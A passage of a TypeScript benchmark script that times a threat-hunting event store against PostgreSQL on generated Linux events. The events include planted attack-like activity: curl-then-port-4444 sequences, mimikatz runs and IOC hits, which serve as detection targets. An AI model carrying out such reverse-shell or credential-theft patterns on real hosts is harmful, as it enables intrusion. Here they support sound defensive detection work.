        `vigil   catching up: index pending ${formatInt(storeStat('index_pending_events') ?? 0)} events, row store ${formatInt(storeStat('row_store_rows') ?? 0)} of ` +
          `${formatInt(totalEvents)} rows, index dropped for heap: ${storeStat('index_dropped_for_heap') ?? 0}; ${memoryLine()}`,
      );
    }
  }
  await store.search(compile('process where process.name == "curl" | stats count()')[0]!);
  const vigilIndexS = (performance.now() - catchUpStart) / 1000;
  log(`vigil   secondary index and row store caught up ${vigilIndexS.toFixed(1)} s after the load; ${memoryLine()}`);
  const indexStats = Object.fromEntries(Object.entries(store.stats?.() ?? {}).filter(([key]) => key.startsWith('index_')));
  log(`vigil   secondary index: ${JSON.stringify(indexStats)}`);

  if (keepStore) {
    writeFileSync(join(keepStore, DATASET_FILE), JSON.stringify(keptFacts(data)) + '\n');
    log(`vigil   store kept in ${keepStore} (reuse with --reuse-store ${keepStore} --postgres=false --events ${totalEvents} --hosts ${hostCount} --seed ${options.seed} --days ${options.days})`);
  }
  if (!withPostgres) {
    await warmPass(selectQueries(buildSuite(data)), store);
    for (const c of selectQueries(buildSuite(data))) {
      const vigil = await timeRunsTraced(c.name, () => runVigil(c, store));
      const ms = vigil.sortedMs;
      log(
        `query   ${c.name}: vigil p50 ${percentile(ms, 50).toFixed(2)} ms (min ${ms[0]!.toFixed(2)}, max ${ms[ms.length - 1]!.toFixed(2)}); ` +
          `${c.describe(c.digestVigil(vigil.rows))}\n        runs in order (ms, GC ms within): ${vigil.trace}`,
      );
    }
    const after = Object.fromEntries(Object.entries(store.stats?.() ?? {}).filter(([key]) => key.startsWith('index_')));
    log(`vigil   after the suite: ${JSON.stringify(after)}; ${memoryLine()}`);
    log('results not cross-checked nor written (--postgres=false)');
    await store.close();
    storeOpen = false;
    await cleanup.runAll();
    return;
  }

  // PostgreSQL: the ingest table (b-tree indexes present during the load), then the hunt indexes, then VACUUM ANALYZE.
  const server = await startTempPostgres(options['pg-port'], postgresSettings);
  cleanup.add('stop postgres', () => server.stop());
  log(`postgres pid ${server.pid} on 127.0.0.1:${server.port}`);
  let pgPeakPssBytes = 0;
  const pgMemory = () => {
    const pss = processTreePssBytes(server.pid);
    pgPeakPssBytes = Math.max(pgPeakPssBytes, pss);
    return `postgres processes PSS ${(pss / 1024 ** 3).toFixed(2)} GiB`;
  };
  const pgMemoryTimer = setInterval(pgMemory, 5_000);
  pgMemoryTimer.unref();
  cleanup.add('stop postgres memory sampling', () => clearInterval(pgMemoryTimer));
  const loaders: pg.Client[] = [];
  for (let i = 0; i < 4; i++) {
    const client = new pg.Client({ host: server.host, port: server.port, user: server.user, database: 'postgres' });
    await client.connect();
    loaders.push(client);
  }
  cleanup.add('close postgres clients', async () => void (await Promise.allSettled(loaders.map((c) => c.end()))));
  const db = loaders[0]!;
  for (const sql of pgSchemaSql) await db.query(sql);
  // Loader i takes hosts i, i + 4, ... one after the other, each host's batches in order (the bodies are the spooled
  // `{"events":[...]}` texts, sent as they are).
  const pgProgress = startProgress(log, 'postgres loaded', totalEvents, 'events', 10_000, pgMemory);
  const pgStart = performance.now();
  try {
    await Promise.all(
      loaders.map(async (client, i) => {
        for (let h = i; h < data.hosts.length; h += loaders.length) {
          await forEachBatch(data.hosts[h]!, async (body, batch) => {
            await client.query(pgInsertQuery('json', pgBatchParams('json', body)));
            pgProgress.add(batch.events);
          });
        }
      }),
    );
  } finally {
    pgProgress.stop();
  }
  const pgLoadS = (performance.now() - pgStart) / 1000;
  // Both engines hold their copies now; the spool leaves the disk.
  rmSync(spoolDir, { recursive: true, force: true });
  const pgStored = Number((await db.query<{ n: string }>('SELECT count(*) AS n FROM events')).rows[0]!.n);
  if (pgStored !== totalEvents) throw new Error(`VERIFICATION FAILED: PostgreSQL stores ${pgStored} rows, expected ${totalEvents}`);
  log(`postgres loaded ${formatInt(totalEvents)} rows in ${pgLoadS.toFixed(1)} s (${formatInt(totalEvents / pgLoadS)} events/s)`);
  const indexStart = performance.now();
  await db.query('CREATE EXTENSION IF NOT EXISTS pg_trgm');
  // Seconds from sending the first index to each index being done (each connection builds its indexes one after the other).
  const pgIndexDoneAtS: Record<string, number> = {};
  await Promise.all(
    huntIndexSql.map(async ([name, sql], i) => {
      await loaders[i % loaders.length]!.query(sql);
      pgIndexDoneAtS[name] = round((performance.now() - indexStart) / 1000, 1);
      log(`postgres index ${name} done ${pgIndexDoneAtS[name]} s after the first was sent; ${pgMemory()}`);
    }),
  );
  const vacuumStart = performance.now();
  await db.query('VACUUM (ANALYZE) events');
  const pgVacuumS = (performance.now() - vacuumStart) / 1000;
  const pgIndexS = (performance.now() - indexStart) / 1000;
  log(`postgres VACUUM (ANALYZE) in ${pgVacuumS.toFixed(1)} s`);
  log(`postgres hunt indexes + VACUUM ANALYZE in ${pgIndexS.toFixed(1)} s`);
  const pgBytes = Number((await db.query<{ n: string }>("SELECT pg_total_relation_size('events') AS n")).rows[0]!.n);

  const results: QueryResult[] = [];
  await warmPass(selectQueries(buildSuite(data)), store, db);
  for (const c of selectQueries(buildSuite(data))) {
    const vigil = await timeRuns(() => runVigil(c, store));
    const postgres = await timeRuns(async () => (await db.query(c.postgres.text, c.postgres.values)).rows as Rows);
    const vigilResult = c.digestVigil(vigil.rows);
    const postgresResult = c.digestPostgres(postgres.rows);
    const match = vigilResult === postgresResult;
    if (!match && !c.mayDiffer) {
      throw new Error(`VERIFICATION FAILED: "${c.name}" differs\n  vigil:    ${vigilResult.slice(0, 2000)}\n  postgres: ${postgresResult.slice(0, 2000)}`);
    }
    results.push({ name: c.name, vigilText: c.vigilText, vigilMs: vigil.sortedMs, postgresMs: postgres.sortedMs, vigilResult: c.describe(vigilResult), postgresResult: c.describe(postgresResult), match });
    log(`query   ${c.name}: vigil p50 ${percentile(vigil.sortedMs, 50).toFixed(1)} ms, postgres p50 ${percentile(postgres.sortedMs, 50).toFixed(1)} ms; ${c.describe(vigilResult)}${match ? '' : ` (postgres: ${c.describe(postgresResult)})`}`);
  }

  const indexStatsAfterSuite = Object.fromEntries(Object.entries(store.stats?.() ?? {}).filter(([key]) => key.startsWith('index_')));
  log(`vigil   after the suite: index dropped for heap: ${indexStatsAfterSuite['index_dropped_for_heap'] ?? 0}; ${memoryLine()}`);
  clearInterval(pgMemoryTimer);
  pgMemory();
  const benchPeakRssBytes = process.resourceUsage().maxRSS * 1024;
  log(`memory  peak RSS of this process (Vigil's store in-process) ${(benchPeakRssBytes / 1024 ** 3).toFixed(2)} GiB; peak PSS of PostgreSQL's processes ${(pgPeakPssBytes / 1024 ** 3).toFixed(2)} GiB (sampled every 5 s from its start)`);
  await store.close();
  storeOpen = false;
  const vigilBytes = directoryBytes(work);
  await cleanup.runAll();

  const rows = results.map((r) => {
    const v = percentile(r.vigilMs, 50);
    const p = percentile(r.postgresMs, 50);
    const ratio = p / v;
    return { r, v, p, ratio, meets: ratio >= TARGET_RATIO && v <= TARGET_P50_MS };
  });
  const header = ['query', 'vigil p50 ms', 'postgres p50 ms', 'ratio', 'target met', 'result'];
  const tableRows = rows.map(({ r, v, p, ratio, meets }) => [
    r.name,
    v.toFixed(1),
    p.toFixed(1),
    formatRatio(ratio),
    meets ? 'yes' : 'no',
    r.match ? r.vigilResult : `vigil ${r.vigilResult}; postgres ${r.postgresResult}`,
  ]);
  const vigilRate = totalEvents / vigilLoadS;
  const pgRate = totalEvents / pgLoadS;
  process.stdout.write(textTable(header, tableRows) + '\n\n');
  process.stdout.write(
    textTable(
      ['load', 'vigil', 'postgres'],
      [
        ['events/s', formatInt(vigilRate), formatInt(pgRate)],
        ['hunt index build + VACUUM ANALYZE s', `${vigilIndexS.toFixed(1)} (index and row store catch-up after the load)`, pgIndexS.toFixed(1)],
        ['stored bytes/event', formatInt(vigilBytes / totalEvents), formatInt(pgBytes / totalEvents)],
      ],
    ) + '\n',
  );

  const result = {
    benchmark: 'hunt',
    date: new Date().toISOString(),
    events: totalEvents,
    hosts: hostCount,
    days: options.days,
    runs_per_query: runs,
    vigil_load_events_per_s: Math.round(vigilRate),
    postgres_load_events_per_s: Math.round(pgRate),
    generate_s: round(generateS, 1),
    spool_bytes: data.spoolBytes,
    vigil_load_s: round(vigilLoadS, 1),
    vigil_load_wall_s: round(vigilLoadWallS, 1),
    vigil_spool_parse_s: round(vigilParseMs / 1000, 1),
    vigil_all_stored_after_s: round(vigilStoredS, 1),
    postgres_load_s: round(pgLoadS, 1),
    postgres_index_build_s: round(pgIndexS, 1),
    postgres_index_done_at_s: pgIndexDoneAtS,
    postgres_vacuum_analyze_s: round(pgVacuumS, 1),
    memory: {
      bench_process_heap_limit_bytes: getHeapStatistics().heap_size_limit,
      bench_process_peak_rss_bytes: benchPeakRssBytes,
      postgres_peak_pss_bytes: pgPeakPssBytes,
      vigil_index_after_suite: indexStatsAfterSuite,
    },
    vigil_stored_bytes: vigilBytes,
    vigil_index: indexStats,
    vigil_index_catch_up_s: round(vigilIndexS, 1),
    postgres_stored_bytes: pgBytes,
    targets: { ratio_at_least: TARGET_RATIO, vigil_p50_ms_at_most: TARGET_P50_MS, at_events: 10_000_000 },
    queries: Object.fromEntries(
      rows.map(({ r, v, p, ratio, meets }) => [
        r.name,
        {
          vigil_p50_ms: round(v, 2),
          postgres_p50_ms: round(p, 2),
          ratio: Number(ratio.toPrecision(3)),
          meets_target: meets,
          vigil_ms: r.vigilMs.map((x) => round(x, 2)),
          postgres_ms: r.postgresMs.map((x) => round(x, 2)),
          vigil_result: r.vigilResult,
          postgres_result: r.postgresResult,
          results_match: r.match,
          vigil_query: r.vigilText,
        },
      ]),
    ),
    planted: { chains: CHAIN_COUNT, chain_depth: CHAIN_DEPTH, curl_4444_pairs: SEQUENCE_PAIRS, mimikatz_events: MIMIKATZ_EVENTS, exact_hash_occurrences: data.exactHashCount, iocs_present: data.iocsPresent },
    postgres: { indexes: [...pgIndexNames, ...huntIndexSql.map(([name]) => name)], settings: postgresSettings },
    machine,
  };
  mkdirSync(resultsDir, { recursive: true });
  const out = join(resultsDir, 'hunt.json');
  writeFileSync(out, JSON.stringify(result, null, 2) + '\n');
  log(`results ${relative(process.cwd(), out)}`);

  if (options['update-docs']) {
    const flags = process.argv.slice(2).filter((a) => a !== '--update-docs');
    const met = rows.filter((x) => x.meets).map((x) => x.r.name);
    const file = updateBenchmarkDocs(
      repoRoot,
      'hunt',
      [
        '## hunt',
        '',
        `${formatInt(totalEvents)} generated Linux events (~70% process start, ~20% network connect, ~10% file create) from ${hostCount} hosts over`,
        `${options.days} days, with planted activity: ${CHAIN_COUNT} process chains of depth ${CHAIN_DEPTH}, ${SEQUENCE_PAIRS} curl-then-port-4444 pairs and`,
        `${MIMIKATZ_EVENTS} mimikatz runs. The events are generated host by host into spool files (batch bodies; the benchmark's heap holds`,
        'one batch per host), then read back for each engine. Vigil loads them in-process through the store\'s `append` (batches of',
        `${BATCH} per host, hosts concurrently, durable acknowledgement; the time spent parsing the spooled batches is not counted) and`,
        'answers the queries users run: each hunting-language query goes through `compileHunt` and',
        "`EventStore.search` with the compiled query's indexed form, so the store's secondary indexes (docs/hunting.md; built in the background",
        'beside the load, the time they need after it is reported below) answer where they can: the substring and fuzzy counts, the hourly timechart,',
        "the top 20 process names (per-value row counts) and the IOC sweep's per-indicator host counts and first-seen times come from the index",
        "alone; the exact hash's events are read by row id from the store's row store (a JSON copy of each row in an append-only file, rebuilt",
        "at open; recently read rows stay parsed in a bounded cache); both sequence steps come from the index (port 4444 from its integer",
        'postings) and the row store, joined in memory. The process tree is walked level by level',
        "through the store's edge index (`EventStore.processChildren`, by entity id: the planted chains carry entity ids); PostgreSQL runs a",
        'recursive SQL query on (host, pid) with its b-tree indexes. PostgreSQL 15 loads the same batches over',
        '4 connections (`json_to_recordset`, one transaction per batch, fsync on) into the ingest benchmark\'s table with its b-tree indexes,',
        'then gets the indexes a DBA would add for this suite and `VACUUM (ANALYZE)`; its queries are hand-written SQL with bound parameters.',
        'Before timing, one untimed pass of the whole suite on both engines; then each query: 1 warm-up and ' +
          `${runs} timed runs per engine, one after the other; p50 is the median. Results are cross-checked`,
        '(counts, top-20 list, hourly buckets, per-indicator host/first-seen/count rows, tree size and depth, sequence count) and the run aborts on',
        "a difference, except fuzzy search, where Vigil's Levenshtein match over every text field and PostgreSQL's trigram `<%` (word",
        'similarity ≥ 0.6) on the command line are different definitions.',
        '',
        'PostgreSQL indexes: ' + [...pgIndexNames, ...huntIndexSql.map(([name]) => name)].join('; ') + '.',
        `PostgreSQL settings: ${Object.entries(postgresSettings).map(([k, v]) => `${k}=${v}`).join(', ')}.`,
        '',
        '```',
        `npx tsc -b && npm run bench -- hunt${flags.length ? ' ' + flags.join(' ') : ''}`,
        '```',
        '',
        `Machine: ${machine.cores} cores (\`nproc\`), ${machine.cpu_model}, ${machine.memory_gib} GiB RAM, Linux ${machine.kernel}, Node ${machine.node}. Date: ${result.date.slice(0, 10)}.`,
        `The issue's size is \`--events 10000000\` (and 50,000,000 when time allows); this run used ${formatInt(totalEvents)} events.`,
        '',
        markdownTable(header, tableRows.map((r) => r.map((cell) => cell.replace(/\|/g, '\\|')))),
        '',
        markdownTable(
          ['load', 'Vigil', 'PostgreSQL 15'],
          [
            ['events/s', formatInt(vigilRate), formatInt(pgRate)],
            ['hunt index build + VACUUM ANALYZE (s)', `${vigilIndexS.toFixed(1)} (secondary index and row store catch-up after the load)`, pgIndexS.toFixed(1)],
            ['stored bytes/event', formatInt(vigilBytes / totalEvents), formatInt(pgBytes / totalEvents)],
          ],
        ),
        '',
        `Target (issue, at 10M events): every query at least ${TARGET_RATIO}x faster than PostgreSQL and Vigil p50 at most ${TARGET_P50_MS} ms.`,
        `Met in this run by ${met.length} of ${rows.length} queries${met.length ? ` (${met.join(', ')})` : ''}; "target met" above applies the`,
        `same thresholds at ${formatInt(totalEvents)} events. Vigil's stored bytes are its whole data folder after close (database and journal);`,
        `its secondary index lives in memory only (${JSON.stringify(indexStats)}; about 200 MB of heap per million events, see docs/hunting.md);`,
        "PostgreSQL's are the table with all its indexes (WAL not counted).",
        '',
        "Before the secondary indexes (same machine and suite, 1,000,000 events, earlier on 2026-12-05): exact hash 96.6 ms,",
        "substring 196, fuzzy 9,036, top 20 3.2, timechart 38.8, IOC sweep 862, process tree 10.6 (recursive SQL), sequence 33;",
        "Vigil loaded 45,951 events/s. DuckDB fetches scattered rows by row id at about 1 ms per row (slower than its own scan),",
        "hence the row store for event lists and sequences (it adds ~1.08 KB of disk per event while the server runs; not in",
        "the stored bytes above, which are measured after close). The index and row store cost ingest: their read-back shares",
        "the event loop with the load (events/s above, and the catch-up after it).",
        "Small timings move by a few ms between runs on this shared 2-core machine.",
        '',
      ].join('\n'),
    );
    log(`docs    ${relative(process.cwd(), file)} updated`);
  }
}

main().catch(async (error: unknown) => {
  if (cleanup.interrupted) return;
  log(`hunt benchmark failed: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
  await cleanup.runAll();
  process.exit(1);
});
